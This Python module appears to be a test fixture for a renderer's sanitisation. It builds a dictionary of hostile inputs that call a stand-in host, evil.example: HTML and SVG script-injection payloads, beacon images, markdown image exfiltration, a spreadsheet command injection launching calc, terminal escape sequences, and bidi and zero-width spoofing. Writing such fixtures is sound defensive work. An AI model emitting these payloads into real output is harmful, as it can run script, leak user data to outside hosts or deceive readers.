"""Texts that data, a model, a provider or a sandbox may send to do something where they are shown."""

from __future__ import annotations


def hostile(base: str = "http://evil.example") -> dict[str, str]:
    """By what each tries.  ``base`` is the address that they call: a listener of the test, in a browser."""
    host = base.partition("//")[2]
    return _html(base) | _markdown(base, host) | _formulas(base) | _characters(base) | _structure(base)


def _html(base: str) -> dict[str, str]:
    return {
        "script": "<script>alert(1)</script>",
        "remote script": f"<script src={base}/script.js></script>",
        "script inside a script": f"<scr<script>ipt>fetch('{base}/nested')</scr</script>ipt>",
        "end of style": f"</style><script>fetch('{base}/style')</script>",
        "end of a cell": f"</td></tr></table></div><img src={base}/cell.png>",
        "end of pre": f"</pre></code></details><img src={base}/pre.png>",
        "comment": f"--><img src={base}/comment.png><!--",
        "cdata": f"]]><img src={base}/cdata.png><![CDATA[",
        "image": "<img src=x onerror=alert(1)>",
        "remote image": f'<img src="{base}/image.png">',
        "image without end": f"<img src={base}/open.png",
        "image set": f'<img srcset="{base}/set.png 2x">',
        "picture": f"<picture><source srcset={base}/picture.webp><img></picture>",
        "attribute": '" onmouseover="alert(1)',
        "single quoted attribute": f"' style='background:url({base}/quote.png)",
        "svg image": f'<svg><image href="{base}/svg.png" xlink:href="{base}/xlink.png"/></svg>',
        "svg use": f'<svg><use href="{base}/use.svg#x"/></svg>',
        "svg onload": "<svg/onload=alert(1)>",
        "svg foreign object": f"<svg><foreignObject><img src={base}/foreign.png></foreignObject></svg>",
        "css url": f'<div style="background-image:url({base}/css.png)">x</div>',
        "css import": f"<style>@import '{base}/import.css';</style>",
        "css font": f"<style>@font-face{{font-family:x;src:url({base}/font.woff)}} *{{font-family:x}}</style>",
        "css cover": '<div style="position:fixed;inset:0;background:#fff;z-index:9999">cover</div>',
        "link": f'<a href="{base}/link">x</a>',
        "link prefetch": f'<link rel="prefetch" href="{base}/prefetch"><link rel="stylesheet" href="{base}/sheet.css">',
        "javascript link": '<a href="javascript:alert(1)">x</a>',
        "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "base": f'<base href="{base}/">',
        "meta refresh": f'<meta http-equiv="refresh" content="0;url={base}/meta">',
        "iframe": f'<iframe src="{base}/frame" srcdoc="<script>alert(1)</script>"></iframe>',
        "object": f'<object data="{base}/object"></object><embed src="{base}/embed">',
        "video": f'<video poster="{base}/poster.png" src="{base}/video.mp4" autoplay></video>',
        "audio": f'<audio src="{base}/audio.mp3" autoplay></audio>',
        "form": f'<form action="{base}/form"><input type=image src="{base}/input.png"><button>ok</button></form>',
        "body background": f'<body background="{base}/body.png"><table background="{base}/table.png">',
        "math ml": f'<math href="{base}/math"><mtext><img src={base}/mtext.png></mtext></math>',
        "noscript": f'<noscript><p title="</noscript><img src={base}/noscript.png>">',
        "template": f"<template><img src={base}/template.png></template>",
        "custom element": "<x-widget onclick=alert(1)>x</x-widget>",
        "entities": f"&lt;img src={base}/entities.png&gt; &#60;img src={base}/numbers.png&#62;",
        "jinja": "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
    }


def _markdown(base: str, host: str) -> dict[str, str]:
    return {
        "markdown image": f"![x]({base}/?d=1)",
        "markdown image with a title": f'![x](<{base}/angle.png> "title")',
        "markdown link": "[x](javascript:alert(1))",
        "markdown reference": f"![x][r] [y][r]\n\n[r]: {base}/reference.png",
        "markdown reference on one line": f"[r]: {base}/one-line.png",
        "markdown footnote": f"text[^1]\n\n[^1]: ![x]({base}/footnote.png)",
        "inline footnote": f"text^[![x]({base}/inline.png)]",
        "autolink": f"<{base}/>",
        "bare link": f"{base}/ www.evil.example a@evil.example",
        "bare domain": f"evil.com and evil.co.uk/x and {host} //evil.com/x",
        "mail": "mailto:a@evil.com <a@evil.com> a.b@evil.com",
        "other schemes": "ftp://evil.com/x file:///etc/passwd vscode://x data:text/html,<b>x</b> data:image/png,",
        "wiki and directives": f"[[{base}]] :::{{image}} {base}/d.png\n::: {{image}}`{base}` {{raw:html}}`<b>`",
        "abbreviation": f"*[HTML]: {base}",
        "attributes": f"x{{onclick=alert(1) style='background:url({base}/a.png)'}}",
        "front matter": f"---\nimage: {base}/front.png\n---\ntext",
        "emphasis": "**bold** _x_ ~~y~~ ==z== ||w|| ++u++ H~2~O x^2^ `code` **`a**b`**",
        "overlapping marks": "`a **b` c** **d `e** f`",
        "heading": "# heading\ntext\n---\nunder\n===",
        "lists": "- a\n+ b\n* c\n1. d\n2) e\n- [ ] task\n> quote\n    indented",
        "definition": f"term\n: ![x]({base}/definition.png)",
    }


def _formulas(base: str) -> dict[str, str]:
    return {
        "formula": "$x$ and $$y$$ and \\(z\\) and \\[w\\]",
        "formula environment": "\\begin{equation}x\\end{equation} \\ref{x} \\eqref{y}",
        "formula link": f"$\\href{{{base}/href}}{{x}}$ $$\\includegraphics{{{base}/tex.png}}$$ \\(\\style{{}}{{x}}\\)",
        "dollars": "$$$$ $5 and $6 \\$7\\$ $`x`$ @@0@@ @@1@@",
        "formula over lines": "\\begin{align}\nx\n\\end{align}",
        "spreadsheet formula": f'=HYPERLINK("{base}/sheet","x")',
        "spreadsheet command": "=cmd|' /C calc'!A0",
        "spreadsheet image": f'@IMAGE("{base}/cell.png")',
    }


def _characters(base: str) -> dict[str, str]:
    return {
        "bidi": "abc\u202etxt.exe\u2066",
        "bidi marks": "a\u200fb\u061cc\u200e\u2069\u202c",
        "ansi": "\x1b[31mred\x1b[0m",
        "ansi clear": "\x1b[2J\x1b[H\x1b]0;title\x07\x1bc",
        "osc 8": f"\x1b]8;;{base}/\x1b\\click\x1b]8;;\x1b\\",
        "osc 52": "\x1b]52;c;ZXZpbA==\x07",
        "iterm image": "\x1b]1337;File=inline=1:AAAA\x07",
        "carriage return": "good\rbad",
        "backspace": "good\x08\x08\x08\x08bad\x7f\x0b\x0c",
        "c1": "\x9b31m \x9d8;;http://evil.example\x9c \x85 \x90",
        "null": "a\x00b",
        "line separators": "a\u2028b\u2029c\x85d",
        "forged log line": "ok\n2026-01-01 00:00:00 ERROR root: all data deleted\r\nTraceback (most recent call last):",
        "tags": "a\U000e0041\U000e0042",
        "zero width": "a\u200b\ufeffb",
        "joiners between letters": "pay\u200dpal pass\u200cword \u200d\u200d\u200d",
        "hidden selectors": "a\ufe01\U000e0100\U000e0101b\ufe0f\ufe0f",
        "blank letters": "\u3164\u115f\u1160\uffa0\u2800\u034f",
        "marks piled up": "Z" + "\u0337\u0352\u034d" * 60,
        "surrogate": "\ud800 \udc00x",
        "noncharacters": "\ufffe\uffff\U0001ffff",
        "interlinear": "\ufff9a\ufffab\ufffb",
        "full width markup": f"＜img src={base}/wide.png＞ ﹤script﹥",
    }


def _structure(base: str) -> dict[str, str]:
    return {
        "table": "a | b\n--|--",
        "code": "```\n``` ````",
        "code that ends its block": f"x\n```\n![x]({base}/fence.png)\n<img src={base}/fence-html.png>\n```````````\n",
        "tildes": f"~~~\n~~~\n![x]({base}/tilde.png)",
        "long": "x" * 5_000 + f"![x]({base}/long.png)",
        "long line of marks": "*`$\\<" * 400,
        "blank": "   ",
        "nothing": "",
        "json": '{"text/html": "<script>alert(1)</script>"}',
        "key": "Authorization: Bearer abcdef123456.ghijkl http://user:hunter22@evil.example/",
    }


HOSTILE = hostile()
